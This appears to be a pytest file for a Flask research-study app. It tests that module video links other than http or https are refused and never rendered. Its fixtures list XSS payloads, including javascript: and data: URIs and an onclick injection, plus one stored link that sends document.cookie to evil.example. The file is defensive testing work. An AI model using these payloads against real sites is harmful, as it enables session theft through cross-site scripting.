"""Module video links are web links only (issue 11, point 12): refused where they enter, and
never rendered as a link when a row holds anything else."""

from __future__ import annotations

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from study.errors import NotAllowed
from study.extensions import db
from study.models import Allocation, ModulePage
from study.models.study import is_web_link
from study.services import invitations
from study.services.studies import StudySpec, create_study, set_module_pages
from tests.helpers import Demo, TraineeDriver

HOSTILE_LINKS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/video",
    "https:///no-host",
    "ftp://videos.example/talk.mp4",
    "https://videos.example/watch?v=1 onclick=alert(1)",
]


@pytest.mark.parametrize("link", HOSTILE_LINKS)
@pytest.mark.usefixtures("app_context")
def test_a_module_page_refuses_a_video_link_that_is_not_http(app: Flask, link: str) -> None:
    study = create_study(db.session, StudySpec(slug="linked", title="Linked", consent_text="x"),
                         app.extensions["allport.instruments"], actor="test")
    with pytest.raises(NotAllowed) as refused:
        set_module_pages(db.session, study, [("Intro", "Text", None), ("Video", "Text", link)])
    assert str(refused.value) == (
        "Module page 2 (Video): the video link must be a web address starting with http:// or "
        f"https://, not {link!r}.")
    assert study.module_pages == []


@pytest.mark.usefixtures("app_context")
def test_web_links_are_accepted(app: Flask) -> None:
    study = create_study(db.session, StudySpec(slug="linked", title="Linked", consent_text="x"),
                         app.extensions["allport.instruments"], actor="test")
    links = ["https://videos.example/watch?v=1", "HTTP://videos.example:8080/a#b"]
    set_module_pages(db.session, study, [("One", "Text", links[0]), ("Two", "Text", links[1])])
    assert [page.safe_video_url for page in study.module_pages] == links
    assert not any(is_web_link(link) for link in HOSTILE_LINKS)


def education_trainee(demo: Demo, client: FlaskClient) -> TraineeDriver:
    """A trainee of the demo allocated to the education arm, its baseline answered."""
    for _ in range(12):
        with demo.app.app_context():
            study = demo.study()
            token = invitations.invite(db.session, study, study.cohorts[0], 1,
                                       actor="test")[0].token
            db.session.commit()
        trainee = TraineeDriver(client, token)
        trainee.consent(agree=True)
        trainee.answer_until_not_questionnaire()
        with demo.app.app_context():
            participant = invitations.participant_for_token(db.session, token)
            allocation = db.session.scalars(
                select(Allocation).where(Allocation.participant_id == participant.id)).one()
            if allocation.arm.key == "education":
                return trainee
    raise AssertionError("no trainee allocated to education in 12 tries")


def test_a_stored_javascript_link_is_never_rendered(demo: Demo, client: FlaskClient) -> None:
    trainee = education_trainee(demo, client)
    with demo.app.app_context():
        first = db.session.scalars(
            select(ModulePage).where(ModulePage.study_id == demo.study().id,
                                     ModulePage.position == 0)).one()
        first.video_url = "javascript:fetch('https://evil.example/?c='+document.cookie)"
        first_id = first.id
        db.session.commit()
    page = trainee.open("/education/0")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "javascript:" not in html and "evil.example" not in html
    assert "Watch the video" not in html
    with demo.app.app_context():
        first = db.session.get(ModulePage, first_id)
        first.video_url = "https://videos.example/watch?v=1"
        db.session.commit()
    html = trainee.open("/education/0").get_data(as_text=True)
    assert '<a href="https://videos.example/watch?v=1" rel="noopener">Watch the video' in html
